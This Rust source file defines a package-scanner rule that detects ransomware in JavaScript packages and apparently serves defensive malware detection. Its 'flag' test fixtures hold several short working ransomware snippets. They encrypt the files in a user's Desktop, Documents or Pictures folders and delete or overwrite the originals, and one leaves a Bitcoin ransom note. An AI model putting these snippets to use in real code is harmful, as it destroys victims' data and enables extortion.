//! Rule `ransomware`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// Encrypts the user's files where they are: a recursive directory walk, and within a few
    /// lines of each other a file read, a cipher (`createCipheriv`, `createCipher`,
    /// `publicEncrypt`, `subtle.encrypt`), a write and the removal of the original (`unlink`,
    /// `rm`, or a write back over the path that was read), in a file whose walk starts in the
    /// user's folders (the home directory with Desktop, Documents, Pictures, Downloads or
    /// OneDrive, a drive root, `/`) or that writes a ransom note (encrypted files, a payment or
    /// a way to recover them). Or, in one function of such a walk, a cipher, a write and the
    /// removal, renaming away or overwriting of the original, the walk covering the user's
    /// folders (the home directory with two of them) or files of the document types the code
    /// lists ([`encrypts_user_files`]). Folder-encryption tools encrypt the folder their user
    /// names and keep or ask about the originals.
    id: "ransomware",
    category: Other,
    severity: Critical,
    capability: Some(crate::model::Capability::FilesystemWrite),
    title: "encrypts the user's files",
    incident: "noblox.js-proxy / noblox.js-vps typosquats (Sonatype, Oct 2021) encrypted documents on install",
    case_file: "index.js",
    flag: ["const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction* walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) yield* walk(p); else yield p; } }\nfor (const root of ['Desktop', 'Documents'].map((x) => path.join(os.homedir(), x))) for (const f of walk(root)) { const c = crypto.createCipheriv('aes-256-cbc', key, iv); fs.writeFileSync(f + '.locked', Buffer.concat([c.update(fs.readFileSync(f)), c.final()])); fs.unlinkSync(f); }",
           "const fsp = require('fs/promises'); const crypto = require('crypto');\nasync function go(dir) { for (const n of await fsp.readdir(dir)) { const p = dir + '/' + n; if ((await fsp.stat(p)).isDirectory()) { await go(p); continue; } const data = await fsp.readFile(p); const enc = crypto.publicEncrypt(PUB, data.subarray(0, 190)); await fsp.writeFile(p, Buffer.concat([enc, data.subarray(190)])); } await fsp.writeFile(dir + '/README_RESTORE.txt', 'All your files are encrypted. Pay 0.1 BTC to recover them.'); }\ngo(process.cwd());",
           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction lock(key) { for (const dir of ['Desktop', 'Documents']) for (const p of list(path.join(os.homedir(), dir), [])) { const c = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16)); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }",
           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nconst walk = (d) => fs.readdirSync(d, { withFileTypes: true }).flatMap((e) => e.isDirectory() ? walk(path.join(d, e.name)) : [path.join(d, e.name)]);\nfunction lock(key, iv) { for (const f of walk(path.join(os.homedir(), 'Pictures')).concat(walk(path.join(os.homedir(), 'Desktop')))) { const data = fs.readFileSync(f); const c = crypto.createCipheriv('aes-256-cbc', key, iv); fs.writeFileSync(f, Buffer.concat([c.update(data), c.final()])) } }"],
    pass: ["function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else { const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); if (opts.removeOriginals) fs.unlinkSync(p); } } }\nmodule.exports = (dir, key, opts) => walk(path.resolve(dir))",
           "function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else hashes[p] = crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex'); } }\nwalk(path.join(os.homedir(), 'Documents'))",
           "const c = crypto.createCipheriv('aes-256-cbc', key, iv); fs.writeFileSync(out, Buffer.concat([c.update(fs.readFileSync(src)), c.final()])); fs.unlinkSync(src);",
           "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nfunction stamp(key) { for (const p of list(path.join(os.homedir(), 'Documents'), [])) { const h = crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex'); const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'index.enc'), c.update(h)) } }",
           "const fs = require('fs'), path = require('path'), crypto = require('crypto');\nfunction list(d, out) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) list(p, out); else out.push(p) } return out }\nexports.seal = (dir, key) => { for (const p of list(dir, [])) { const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p) } }"],
}

/// How close (in bytes) the read, cipher, write and removal must be: one loop body.
const BODY_WINDOW: usize = 1_200;

fn is_cipher(path: &str) -> bool {
    matches!(
        path,
        "crypto.createCipheriv"
            | "crypto.createCipher"
            | "crypto.publicEncrypt"
            | "crypto.privateEncrypt"
            | "crypto.subtle.encrypt"
            | "crypto.webcrypto.subtle.encrypt"
            | "subtle.encrypt"
    )
}

fn check(pkg: &Package, out: &mut Emitter) {
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let hit = encrypts_near(f).or_else(|| {
            encrypts_user_files(f).map(|(off, what)| {
                let why = format!("walks {what}, encrypts each file and removes the original");
                (off, why)
            })
        });
        if let Some((off, why)) = hit {
            out.hit_sev(Severity::Critical, pkg, f, off, why);
        }
    }
}

/// A walk whose loop body reads, encrypts, writes and removes (or overwrites) each file, in a
/// file that starts it in the user's folders or leaves a ransom note: the offset of the
/// cipher, and what the finding says.
fn encrypts_near(f: &crate::package::FileCtx) -> Option<(u32, String)> {
    let user_folders =
        crate::regex!(r#"['"`](Desktop|Documents|Pictures|Downloads|OneDrive)['"`/\\]"#);
    let home = crate::regex!(r"\bhomedir\b|\bHOME\b|\bUSERPROFILE\b");
    let root = crate::regex!(r#"\(\s*['"`](/|[A-Z]:\\\\)['"`]\s*\)|['"`][A-Z]:\\\\['"`]"#);
    let note = crate::regex!(
        r"(?i)\b(files|documents|data)\b[^'\x22`\n]{0,40}\b(encrypted|locked)\b[^'\x22`]{0,300}\b(BTC|bitcoin|monero|XMR|USDT|ransom|pay|recover|restore|decrypt)"
    );
    let js = f.js.as_ref()?;
    if !js.calls.iter().any(|c| is_cipher(&c.path)) {
        return None;
    }
    let text = all_text(f);
    let recursive_walk = js.calls.iter().any(|c| {
        let m = c.path.rsplit('.').next().unwrap_or("");
        c.path.starts_with("fs") && (m.starts_with("readdir") || m.starts_with("opendir"))
    }) && (text.contains("isDirectory") || text.contains("withFileTypes"));
    if !recursive_walk {
        return None;
    }
    let near = |a: u32, b: u32| (a.abs_diff(b) as usize) < BODY_WINDOW;
    let reads: Vec<&crate::js::Call> = js
        .calls
        .iter()
        .filter(|c| {
            let m = c.path.rsplit('.').next().unwrap_or("");
            c.path.starts_with("fs") && (m.starts_with("readFile") || m == "createReadStream")
        })
        .collect();
    let writes: Vec<&crate::js::Call> = js
        .calls
        .iter()
        .filter(|c| {
            crate::rules::is_file_write(&c.path) || c.path.starts_with("fs/promises.writeFile")
        })
        .collect();
    let removes: Vec<u32> = js
        .calls
        .iter()
        .filter(|c| {
            let m = c.path.rsplit('.').next().unwrap_or("");
            c.path.starts_with("fs") && (m.starts_with("unlink") || m == "rmSync" || m == "rm")
        })
        .map(|c| c.off)
        .collect();
    // The original is gone: removed, or written over with what was read from it.
    let src_of = |c: &crate::js::Call| {
        let s = c.off as usize;
        text.get(s..(s + 200).min(text.len()))
            .and_then(|t| t.split_once('(').map(|(_, r)| r))
            .and_then(|r| r.split([',', ')']).next())
            .map(str::trim)
            .filter(|a| !a.is_empty())
    };
    let hit = js
        .calls
        .iter()
        .filter(|c| is_cipher(&c.path))
        .find_map(|c| {
            let read = reads.iter().find(|r| near(r.off, c.off))?;
            let write = writes.iter().find(|w| near(w.off, c.off))?;
            let gone = removes.iter().any(|&r| near(r, c.off))
                || src_of(read).is_some_and(|a| Some(a) == src_of(write));
            gone.then_some(c.off)
        });
    let off = hit?;
    let targets_user = home.is_match(text) && user_folders.is_match(text) || root.is_match(text);
    let ransom_note = note.is_match(text);
    if !(targets_user || ransom_note) {
        return None;
    }
    let why = match (targets_user, ransom_note) {
        (true, true) => "in the user's folders, and leaves a ransom note",
        (true, false) => "in the user's folders",
        _ => "and leaves a ransom note",
    };
    Some((
        off,
        format!("walks directories, encrypts the files it finds and removes the originals {why}"),
    ))
}

/// Ransomware: a recursive walk of the user's own folders (the home directory's Documents,
/// Desktop, Pictures…, or every file with a document, image, database or key extension from a
/// list written in the code) where one function encrypts each file's content
/// (`createCipheriv`, WebCrypto `encrypt`), writes the result and removes, renames away or
/// overwrites the original. Encryption tools and backup programs encrypt what their user names and keep the
/// original, or write an archive elsewhere: the deletion beside the cipher in a walk over
/// folders the code chose is what makes the files hostage. `(offset, what is walked)`.
fn encrypts_user_files(f: &crate::package::FileCtx) -> Option<(u32, &'static str)> {
    let text = f.text.as_str();
    if !crate::mentions!(text, ["createCipher", "subtle.encrypt"]) {
        return None;
    }
    let js = f.js.as_ref()?;
    let walks = js.calls.iter().any(|c| {
        let m = c.path.rsplit('.').next().unwrap_or("");
        m.starts_with("readdir") && c.path.contains("fs")
    }) && (text.contains("isDirectory") || text.contains("withFileTypes"));
    if !walks {
        return None;
    }
    let method = |p: &str| p.rsplit('.').next().unwrap_or("").to_string();
    let ciphers: Vec<u32> = js
        .calls
        .iter()
        .filter(|c| {
            let m = method(&c.path);
            m.starts_with("createCipher") || c.path.ends_with("subtle.encrypt")
        })
        .map(|c| c.off)
        .collect();
    let removes = |c: &crate::js::Call| {
        c.path.contains("fs")
            && matches!(
                method(&c.path).as_str(),
                "rm" | "rmSync" | "unlink" | "unlinkSync" | "rename" | "renameSync"
            )
    };
    let scope_has = |sc: Option<(u32, u32)>, pred: &dyn Fn(&crate::js::Call) -> bool| {
        js.calls.iter().any(|c| pred(c) && js.scope_of(c.off) == sc)
    };
    // The original overwritten with its ciphertext: `writeFile(p, …)` of the path the same
    // function read (`readFile(p)`).
    let in_place = |sc: Option<(u32, u32)>| {
        let body = match sc {
            Some((s, e)) => text
                .get(s as usize..(e as usize).min(text.len()))
                .unwrap_or(""),
            None => text,
        };
        let read = crate::regex!(r"\breadFile(?:Sync)?\(\s*([A-Za-z_$][\w$]*)\s*[,)]");
        let write = crate::regex!(r"\bwriteFile(?:Sync)?\(\s*([A-Za-z_$][\w$]*)\s*,");
        let reads: Vec<&str> = read
            .captures_iter(body)
            .take(16)
            .filter_map(|c| c.get(1).map(|m| m.as_str()))
            .collect();
        write
            .captures_iter(body)
            .take(16)
            .filter_map(|c| c.get(1))
            .any(|m| reads.contains(&m.as_str()))
    };
    let hit = ciphers.iter().copied().find(|&o| {
        let sc = js.scope_of(o);
        scope_has(sc, &|c| {
            crate::rules::is_file_write(&c.path) || method(&c.path) == "writeFile"
        }) && (scope_has(sc, &removes) || in_place(sc))
    })?;
    let folders = ["Documents", "Desktop", "Pictures", "Downloads", "OneDrive"]
        .iter()
        .filter(|d| text.contains(*d))
        .count();
    let home =
        text.contains("homedir") || text.contains("USERPROFILE") || text.contains("env.HOME");
    if home && folders >= 2 {
        return Some((hit, "the user's folders"));
    }
    let exts = crate::regex!(
        r#"['"`]\.?(?:docx?|xlsx?|pptx?|pdf|jpe?g|png|sql|sqlite|csv|pem|key|kdbx|psd|zip|txt|odt|mdb|wallet|dat)['"`]"#
    );
    (exts.find_iter(text).take(8).count() >= 6)
        .then_some((hit, "files of the user's document types"))
}
